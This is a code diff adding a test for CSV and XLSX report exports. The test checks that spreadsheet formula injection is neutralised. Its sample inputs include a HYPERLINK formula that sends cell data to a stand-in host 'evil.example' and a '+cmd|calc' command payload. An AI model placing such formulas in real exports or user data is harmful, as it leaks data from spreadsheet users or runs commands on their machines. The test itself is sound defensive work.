@@ -1,5 +1,6 @@
 import ExcelJS from 'exceljs';
 import { readCsv } from '../../api/src/common/csv/csv-reader';
+import { csvCell } from '../../api/src/common/csv/csv-writer';
 import { bearer, demoColleagues, startApi, TestApi } from '../support/api';
 
 type Who = 'advisor' | 'advisor2' | 'coordinator' | 'manager' | 'admin';
@@ -123,6 +124,33 @@ describe('reports and exports', () => {
     expect(rows).toHaveLength(3);
     expect(rows[1].slice(1, 7)).toEqual(['Coopérative Les Tartines', '0403.019.261', 'coopcity', expect.stringMatching(/^COOPCITY/), 'accepted', '2026-02-21']);
     expect(rows[2][10]).toBe('Pas encore');
+  });
+
+  it('CSV formula injection: text starting with =, +, -, @, tab or CR is neutralised; numbers stay numbers; XLSX writes text cells', async () => {
+    const evil = '=HYPERLINK("http://evil.example/?x="&A2,"click")';
+    const org = (await api.http.post('/api/organisations').set(as.advisor).send({ name: evil, description: '+cmd|calc', postcode: '1000', employeesFte: -0 }).expect(201)).body;
+    await api.http.post('/api/meetings').set(as.advisor).send({ organisationId: org.id, subject: '@SUM(1+1)', notes: '\tTAB', outcomes: '-2+3' }).expect(201);
+    const csv = await api.http.get(`/api/reports/organisations.csv?${q({ filter: { id: [org.id] } })}`).set(as.manager).buffer(true).parse(binary as never).expect(200);
+    const [header, row] = readCsv((csv.body as Buffer).toString('utf8').slice(1));
+    const cell = (name: string) => row.cells[header.cells.indexOf(name)];
+    expect(cell('name')).toBe(`'${evil}`);
+    expect(cell('description')).toBe(`'+cmd|calc`);
+    const meetings = await api.http.get(`/api/reports/meetings.csv?${q({ filter: { organisationId: org.id } })}`).set(as.manager).buffer(true).parse(binary as never).expect(200);
+    const [mHeader, mRow] = readCsv((meetings.body as Buffer).toString('utf8').slice(1));
+    const mCell = (name: string) => mRow.cells[mHeader.cells.indexOf(name)];
+    expect(mCell('subject')).toBe(`'@SUM(1+1)`);
+    expect(mCell('notes')).toBe(`'\tTAB`);
+    expect(mCell('outcomes')).toBe(`'-2+3`);
+    expect(csvCell(-12.5)).toBe('-12.5');
+    expect(csvCell('-12.5')).toBe('-12.5');
+    const xlsx = await api.http.get(`/api/reports/organisations.xlsx?${q({ filter: { id: [org.id] } })}`).set(as.manager).buffer(true).parse(binary as never).expect(200);
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load(xlsx.body as never);
+    const sheet = workbook.worksheets[0];
+    const names = sheet.getColumn((sheet.getRow(1).values as string[]).indexOf('name'));
+    const cellValue = names.values.find((v) => typeof v === 'string' && v.includes('HYPERLINK'));
+    expect(cellValue).toBe(evil); // a text cell: Excel shows it, never runs it
+    expect(sheet.getSheetValues().flat().some((v) => v && typeof v === 'object' && 'formula' in (v as object))).toBe(false);
   });
 
   it('contacts (personal data) only for coordinators and admins, and every export is in the audit log', async () => {
